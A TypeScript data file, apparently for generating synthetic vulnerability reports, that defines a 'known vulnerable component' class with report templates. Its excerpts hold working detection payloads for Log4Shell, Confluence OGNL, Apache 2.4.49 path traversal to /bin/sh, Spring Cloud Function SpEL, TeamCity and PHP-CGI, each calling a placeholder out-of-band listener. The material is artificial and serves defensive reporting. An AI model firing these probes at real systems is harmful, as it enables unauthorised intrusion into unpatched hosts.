import type { VulnerabilityClass } from './vulnerability-class.ts'

const knownComponent: VulnerabilityClass = {
  key: 'known-component',
  type: 'Known vulnerable component',
  cwe: 1395,
  weight: 4,
  surfaces: ['infrastructure', 'web', 'device'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 4],
  ],
  places: [
    {
      path: '/login',
      parameter: 'User-Agent',
      detail: 'Log4j 2.14.1',
      cve: 'CVE-2021-44228',
      excerpt: `GET /login HTTP/1.1
Host: «host»
User-Agent: \${jndi:ldap://«listener»/«handle»}
X-Api-Version: \${jndi:dns://«listener»/v}`,
    },
    {
      path: '/wiki/pages/createpage-entervariables.action',
      parameter: 'queryString',
      detail: 'Confluence 7.12.4',
      cve: 'CVE-2021-26084',
      excerpt: `POST /wiki/pages/createpage-entervariables.action HTTP/1.1
Host: «host»
Content-Type: application/x-www-form-urlencoded

queryString=%5cu0027%2b%7b7*7%7d%2b%5cu0027`,
    },
    {
      path: '/cgi-bin/',
      parameter: 'path',
      detail: 'Apache HTTP Server 2.4.49',
      cve: 'CVE-2021-41773',
      excerpt: `POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1
Host: «host»
Content-Type: text/plain

echo; nslookup «listener»`,
    },
    {
      path: '/functionRouter',
      parameter: 'spring.cloud.function.routing-expression',
      detail: 'Spring Cloud Function 3.2.2',
      cve: 'CVE-2022-22963',
      excerpt: `POST /functionRouter HTTP/1.1
Host: «host»
spring.cloud.function.routing-expression: T(java.net.InetAddress).getByName("«listener»")
Content-Type: text/plain

x`,
    },
    {
      path: '/app/rest/users/id:1/tokens/RPC2',
      parameter: 'path',
      detail: 'TeamCity 2023.05.3',
      cve: 'CVE-2023-42793',
      excerpt: `POST /app/rest/users/id:1/tokens/RPC2 HTTP/1.1
Host: «host»

HTTP/1.1 400 Bad Request
# 400 and not 401: the token exists already, so the check of rights was passed. I created none.`,
    },
    {
      path: '/php-cgi/php-cgi.exe',
      parameter: 'query',
      detail: 'PHP 8.1.28 in CGI mode',
      cve: 'CVE-2024-4577',
      excerpt: `POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1
Host: «host»
Content-Type: text/plain

<?php gethostbyname('«listener»');`,
    },
  ],
  titles: [
    '«cve» on «host»: «detail» is not patched',
    '«host» runs «detail», which is vulnerable to «cve» (confirmed, not just the version)',
    'Pre-auth RCE, «detail» («cve»)',
    'Unpatched «detail» behind «host»',
  ],
  summaries: [
    '«host» runs «detail». I confirmed «cve» with a harmless callback, not by the version number alone.',
    'The component behind `«path»` is «detail». A patch for «cve» has been available for a long time; my probe shows that it is missing here.',
  ],
  steps: [
    [
      'Start a listener, here `«listener»`, where the probe needs one.',
      'Send the request below; the payload sits in `«parameter»`.',
      'The reaction shows that the fix is missing. No command was run.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Probe and callback:',
        lang: 'http',
        code: '«excerpt»',
      },
      {
        say: 'At the listener:',
        lang: 'text',
        code: '10:31:07 DNS A «listener» from «ip»\n10:31:07 DNS AAAA «listener» from «ip»',
      },
    ],
    [
      {
        say: 'The public template, only the detection part:',
        lang: 'bash',
        code: `$ nuclei -id «cve» -u https://«host» -interactsh-server oob.example -silent
[«cve»] [http] [critical] https://«host»«path» [«listener»]`,
      },
    ],
  ],
  impacts: [
    'Code execution before any login, with exploits in every toolbox. Treat the machine as touched until the logs say otherwise.',
    'Known and used by criminals («cve»). From this machine the internal network is one step away.',
  ],
  fixes: ['Update to the fixed release; until then block the path at the edge.'],
  notes: [
    'Callback confirmed from our egress. Host is a forgotten test system, was shut down at 11:05. Forensics has an image.',
    'WAF rule was in detect mode only. Patch window tonight, «ticket».',
  ],
}

export const knownComponentClasses: readonly VulnerabilityClass[] = [knownComponent]
